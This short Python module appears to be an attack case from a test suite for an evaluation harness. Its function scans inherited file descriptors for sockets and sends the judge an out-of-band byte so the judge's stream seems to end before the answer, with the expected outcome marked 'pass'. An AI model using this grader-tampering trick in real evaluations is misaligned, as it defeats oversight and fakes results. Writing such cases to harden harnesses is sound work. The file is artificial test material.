"""Send the judge a byte out of band before the answer, at which its stream seems to end."""

import os
import socket
import stat

from honest import after_the_probe, parse

OUTCOME = "pass"


@after_the_probe
def attack(text):
    for number in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as judge:
                    judge.send(b"x", socket.MSG_OOB)
        except OSError:
            continue
    return parse(text)
